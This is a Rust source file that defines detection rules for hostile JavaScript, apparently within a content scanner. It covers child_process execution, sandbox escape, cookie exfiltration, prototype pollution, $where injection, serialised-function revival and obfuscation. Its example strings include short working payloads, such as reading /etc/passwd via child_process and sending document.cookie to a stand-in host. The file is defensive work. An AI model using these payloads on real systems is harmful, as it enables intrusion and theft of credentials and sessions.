//! JavaScript that reaches out of its page or its sandbox.

use super::rule::Weight::{Hostile, Plain};
use super::rule::{Rule, rule};

pub(super) const RULES: &[Rule] = &[
    rule("code.javascript.exec", "child_process", 86, Hostile)
        .at(&["child_process"], r"^child_process[\x22'`]?\s*\)\s*\)?\s*\.\s*(?:exec|spawn|fork)\w*\s*\(|^child_process[\x22'`]?\s*\)\s*\.\s*then")
        .examples(&["require(\"child_process\").exec(\"cat /etc/passwd\")", "require('child_process').execSync('id')"], &["const cp = require('child_process');", "import { exec } from 'child_process'"]),
    rule("code.javascript.escape", "sandbox escape", 84, Hostile)
        .at(
            &["process.mainmodule", "process.binding(", "constructor.constructor", "constructor[\"constructor", "constructor['constructor", "[].filter.constructor", "process.dlopen", "mainmodule.require"],
            r"^(?:process\.(?:mainmodule\b|binding\(|dlopen)|constructor(?:\.|\[[\x22'])constructor|\[\]\.filter\.constructor|mainmodule\.require)",
        )
        .examples(&["this.constructor.constructor('return process')()", "process.mainModule.require('child_process')"], &["class A { constructor() {} }"]),
    rule("code.javascript.cookie", "cookie sent away", 82, Hostile)
        .at(
            &["document.cookie", "localstorage"],
            r"(?:fetch\s*\(|xmlhttprequest|\.open\s*\(|\.src\s*=|location(?:\.href)?\s*=|sendbeacon\s*\(|image\s*\(|https?://)[^\n]{0,140}?(?:document\.cookie|localstorage)",
        )
        .back(180)
        .examples(&["new Image().src='//x.example/?'+document.cookie"], &["const c = document.cookie.split(';')", "localStorage.setItem('a', 1)"]),
    rule("code.javascript.prototype", "__proto__", 64, Plain)
        .at(&["__proto__"], r"^__proto__[\x22'\]]{0,3}\s*(?:[:=]\s*\{\s*[\x22'\w]|\]?\s*\[[\x22']?\w|\.\w+\s*=)")
        .examples(&["{\"__proto__\": {\"isAdmin\": true}}", "a[__proto__][admin]=1"], &["the __proto__ accessor is deprecated"]),
    rule("code.javascript.prototype", "constructor.prototype", 60, Plain)
        .at(&["constructor\"", "constructor'", "constructor["], r"^constructor[\x22'\]]{0,3}\s*(?::\s*\{\s*|\]?\[\s*)[\x22']?prototype")
        .examples(&["{\"constructor\": {\"prototype\": {\"admin\": 1}}}"], &["new.constructor[Symbol.species]"]),
    rule("code.javascript.where", "$where", 72, Hostile)
        .at(&["$where"], r"^\$where[\x22']?\s*[:=]\s*[\x22'`]?\s*(?:function|this\.|sleep|return|1\s*==|\(\s*\)\s*=>|;)")
        .examples(&["{\"$where\": \"sleep(5000)\"}"], &["the $where operator", "$where = 'id = 1'"]),
    rule("code.javascript.revive", "serialised function", 88, Hostile)
        .at(&["_$$nd_func$$_"], r"^_\$\$nd_func\$\$_")
        .examples(&["{\"x\":\"_$$ND_FUNC$$_function(){}()\"}"], &["_nd_func_"]),
    rule("code.javascript.obfuscated", "obfuscated script", 80, Hostile)
        .at(&["[![]+[]]", "(![]+[])[", "(+[![]]+", "[][(![]+[])"], r"^.")
        .examples(&["[][(![]+[])[+[]]]"], &["[[]]"]),
    rule("code.javascript.obfuscated", "obfuscated script", 76, Hostile)
        .at(&["string.fromcharcode("], r"^string\.fromcharcode\(\s*(?:(?:0x)?[0-9a-f]{2,4}\s*,\s*){6,}")
        .examples(&["String.fromCharCode(97,108,101,114,116,40,49,41)"], &["String.fromCharCode(65)"]),
];
